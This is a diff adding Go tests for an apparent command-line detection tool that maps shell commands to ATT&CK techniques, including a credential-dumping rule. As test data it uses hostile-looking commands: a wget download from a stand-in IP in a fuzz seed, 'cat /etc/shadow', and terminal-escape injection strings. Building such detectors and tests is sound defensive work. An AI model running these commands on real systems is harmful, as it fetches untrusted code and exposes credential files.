@@ -1,0 +1,163 @@
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"ttpctl/internal/attack"
+	"ttpctl/internal/engine"
+	"ttpctl/internal/escape"
+)
+
+func TestLooksLikeEvent(t *testing.T) {
+	for text, want := range map[string]bool{
+		`{"source_kind":"command"}`: true, "{}": true, " \t{\n \"a\"": true, `{"`: true,
+		"{ id; }": false, "{wget,http://h}": false, "id": false, "": false, "{": false, `"{"`: false, "[{}]": false,
+	} {
+		if got := looksLikeEvent(text); got != want {
+			t.Errorf("looksLikeEvent(%q) = %v, want %v", text, got, want)
+		}
+	}
+}
+
+func FuzzAround(f *testing.F) {
+	f.Add("cd /tmp; wget http://192.0.2.7/x", 9, 13, 40)
+	f.Add(strings.Repeat("\x00", 500)+"match"+strings.Repeat("日本", 500), 500, 505, 30)
+	f.Add(strings.Repeat("e\u0301", 300)+"\xff\x1b[2J", 3, 9, 20)
+	f.Fuzz(func(t *testing.T, text string, start, end, room int) {
+		room = 20 + int(uint(room)%200)
+		start = min(max(start, 0), len(text))
+		end = min(max(end, start), len(text))
+		before, inside, after := around(text, start, end, room)
+		whole := before + inside + after
+		if w := escape.Width(before) + escape.Width(inside) + escape.Width(after); w > room+1 || escape.Terminal(whole) != whole || !utf8.ValidString(whole) {
+			t.Errorf("around(%q, %d, %d, %d) = %q, %q, %q: %d cells", text, start, end, room, before, inside, after, w)
+		}
+		if end > start && inside == "" {
+			t.Errorf("around(%q, %d, %d, %d) shows nothing of the match", text, start, end, room)
+		}
+	})
+}
+
+// explainRules compiles rules with one pattern each on command_text, R0001
+// first.
+func explainRules(t *testing.T, patterns ...string) *engine.Ruleset {
+	t.Helper()
+	var srcs []engine.Source
+	for i, p := range patterns {
+		id := "R000" + string(rune('1'+i))
+		srcs = append(srcs, engine.Source{Name: id + ".yaml", Data: []byte("rule_id: " + id + "\nrule_version: 1\nname: probe_" + string(rune('a'+i)) +
+			"\ndescription: d\napplies_to: [command]\nmatch: {pattern: '" + p + "'}\nemits:\n  - {tactic: TA0006, technique_id: T1003, sub_technique_id: T1003.008, confidence: 0.95}\n")})
+	}
+	rs, diags := engine.Compile(srcs, engine.Config{Catalogue: attack.Default()})
+	if diags.HasErrors() {
+		t.Fatal(diags)
+	}
+	return rs
+}
+
+// explainTable explains a command line to a table.
+func explainTable(t *testing.T, x *explainer, line string, color string) string {
+	t.Helper()
+	var out strings.Builder
+	s := testStreams(&out, io.Discard, nil)
+	s.color = color
+	results, err := x.run(context.Background(), []explainInput{{text: line}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := s.render([]output{{format: "table"}}, func(k *sink) error {
+		newExplainText(k, s).write(results)
+		return nil
+	}); err != nil {
+		t.Fatal(err)
+	}
+	return out.String()
+}
+
+func newTestExplainer(rs *engine.Ruleset, states engine.States, ask ...string) *explainer {
+	now := testStreams(io.Discard, io.Discard, nil).now()
+	return &explainer{snapshot: engine.NewSnapshot(rs, states, now), ask: ask, now: now, scratch: engine.NewScratch()}
+}
+
+func TestExplainStates(t *testing.T) {
+	rs := explainRules(t, "id", "id", "id", "id")
+	x := newTestExplainer(rs, engine.States{
+		"R0001": {Mode: engine.Clipped, Max: 0.5, Reason: "noisy \x1b[2J"},
+		"R0002": {Mode: engine.Disabled, Reason: "wrong"},
+		"R0003": {Mode: engine.Clipped, Max: 0.1},
+	})
+	got := explainTable(t, x, "id", "never")
+	for _, want := range []string{
+		`R0001 probe_a: fires, clipped to 0.5 (noisy \x1b[2J)` + "\n    TA0006 Credential Access, T1003.008 OS Credential Dumping: /etc/passwd and /etc/shadow, confidence 0.5\n",
+		"R0002 probe_b: matches, but is disabled (wrong)\n    command_text: id\n                  ^^\n",
+		"R0003 probe_c: matches, but with a confidence below 0.3\n",
+		"R0004 probe_d: fires\n",
+	} {
+		if !strings.Contains(got, want) {
+			t.Errorf("no %q in:\n%s", want, got)
+		}
+	}
+}
+
+func TestExplainColours(t *testing.T) {
+	got := explainTable(t, newTestExplainer(explainRules(t, "shadow"), nil), "cat /etc/shadow x", "always")
+	if want := "command_text: cat /etc/\x1b[1;31mshadow\x1b[0m x\n"; !strings.Contains(got, want) || strings.Contains(got, "^") {
+		t.Errorf("no %q, or carets, in:\n%q", want, got)
+	}
+}
+
+func TestExplainEscapes(t *testing.T) {
+	got := explainTable(t, newTestExplainer(explainRules(t, "faked"), nil, "R0001"), hostile+" | sh -c '"+hostile+"' > '"+hostile+"'", "never")
+	if strings.ContainsAny(got, "\x1b\u009b\u202e") || strings.Contains(got, "\nfaked") {
+		t.Errorf("hostile text reaches the terminal:\n%q", got)
+	}
+}
+
+func TestExplainHugeLine(t *testing.T) {
+	line := strings.Repeat("id;", 100_000)
+	x := newTestExplainer(explainRules(t, "id;"), nil, "R0001")
+	got := explainTable(t, x, line, "never")
+	if len(got) > 64<<10 || !strings.Contains(got, "cut short") || !strings.Contains(got, "more commands") {
+		t.Errorf("%d bytes, want at most 64 KiB that say what was cut:\n%.2000s", len(got), got)
+	}
+	results, _ := x.run(context.Background(), []explainInput{{text: line}})
+	data, err := json.Marshal(x.envelope(results, nil))
+	if err != nil || len(data) > 4*len(line) {
+		t.Errorf("JSON of %d bytes for a line of %d, %v", len(data), len(line), err)
+	}
+}
+
+func TestExplainBoundsTheEventsOfASession(t *testing.T) {
+	event := `{"source_kind":"session","source_id":"s","attacker_uuid":"a","payload":{"commands":["id"` + strings.Repeat(`,"id"`, 2*maxExplainEvents) + `]}}`
+	x := newTestExplainer(explainRules(t, "id"), nil)
+	results, err := x.run(context.Background(), []explainInput{{text: event, event: true}})
+	if n := len(results[0].events); n != maxExplainEvents || worst(err) != classSetup || !strings.Contains(err.Error(), "left out") {
+		t.Errorf("%d events explained, error %v; want %d and one that says so", n, err, maxExplainEvents)
+	}
+}
+
+func TestReadExplainInputs(t *testing.T) {
+	read := func(text string) ([]explainInput, error) {
+		s := testStreams(io.Discard, io.Discard, nil)
+		s.in = strings.NewReader(text)
+		return readExplainInputs(context.Background(), s)
+	}
+	got, err := read("\ufeffid\r\n\n  \n{\"a\":1}\nlast")
+	want := []explainInput{{"id", false, 1}, {`{"a":1}`, true, 4}, {"last", false, 5}}
+	if err != nil || len(got) != 3 || got[0] != want[0] || got[1] != want[1] || got[2] != want[2] {
+		t.Errorf("inputs %+v, %v; want %+v", got, err, want)
+	}
+	for name, text := range map[string]string{"empty": "\n \n", "lines": strings.Repeat("id\n", maxExplainEvents+1), "bytes": strings.Repeat("x", maxExplainBytes+1)} {
+		if in, err := read(text); worst(err) != classSetup {
+			t.Errorf("%s: %d inputs and %v, want a usage error", name, len(in), err)
+		}
+	}
+	if in, err := read(strings.Repeat("id\n", maxExplainEvents)); err != nil || len(in) != maxExplainEvents {
+		t.Errorf("%d inputs and %v, want %d", len(in), err, maxExplainEvents)
+	}
+}
